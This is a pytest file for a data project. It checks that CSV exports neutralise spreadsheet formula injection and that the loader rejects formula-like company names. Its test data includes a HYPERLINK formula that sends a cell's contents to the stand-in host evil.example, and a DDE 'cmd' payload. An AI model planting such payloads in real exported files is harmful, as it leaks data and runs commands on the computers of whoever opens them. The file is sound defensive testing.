"""Spreadsheet-safe exports (OWASP CSV injection) and the validator rule for company names."""

from __future__ import annotations

import csv
import io

import pytest

from alliance.dataset import DatasetError, load_dataset
from alliance.export import records_to_csv, spreadsheet_safe

from .helpers import TINY_COMPANIES, write_dataset

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Anthropic")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("-", "'-"),
        (-5, "-5"),
        (-2.5e9, "-2500000000.0"),
        ("-12.5", "-12.5"),
        ("-inf", "'-inf"),
        (1000000000, "1000000000"),
        ("OpenAI", "OpenAI"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (["investor", "cloud_provider"], "investor;cloud_provider"),
    ],
)
def test_spreadsheet_safe(value, cell):
    assert spreadsheet_safe(value) == cell


def test_records_to_csv_neutralizes_formulas():
    text = records_to_csv([{"id": "d1", "from_name": HYPERLINK, "amount_usd": -5, "notes": "@x"}])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["id", "from_name", "amount_usd", "notes"], ["d1", "'" + HYPERLINK, "-5", "'@x"]]


@pytest.mark.parametrize("name", [HYPERLINK, "+Lab", "-Lab", "@Lab", "=1+1"])
def test_validator_rejects_formula_names(tmp_path, name):
    companies = [dict(TINY_COMPANIES[0], name=name), *TINY_COMPANIES[1:]]
    with pytest.raises(DatasetError) as info:
        load_dataset(write_dataset(tmp_path / "data", companies=companies))
    assert "formula" in str(info.value) and "name" in str(info.value)


def test_loader_strips_leading_tab_and_cr(tmp_path):
    companies = [
        dict(TINY_COMPANIES[0], name="\tFund Capital"),
        dict(TINY_COMPANIES[1], name="\rLab AI"),
        *TINY_COMPANIES[2:],
    ]
    names = load_dataset(write_dataset(tmp_path / "data", companies=companies)).companies["name"]
    assert sorted(names)[:2] == ["App Co", "Chips Inc"] and "Fund Capital" in set(names) and "Lab AI" in set(names)


def test_api_csv_of_a_hostile_dataset_is_safe(tmp_path):
    """Even if a hostile name got past validation, /api/deals.csv would not emit a live formula."""
    from alliance.atlas import build_atlas
    from components.factory import create_app

    dataset_dir = write_dataset(tmp_path / "data")
    dataset = load_dataset(dataset_dir)
    dataset.companies.loc[dataset.companies.index[0], "name"] = HYPERLINK  # bypass the validator on purpose
    atlas = build_atlas(dataset)
    text = create_app(atlas=atlas).server.test_client().get("/api/deals.csv").get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert "'" + HYPERLINK in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
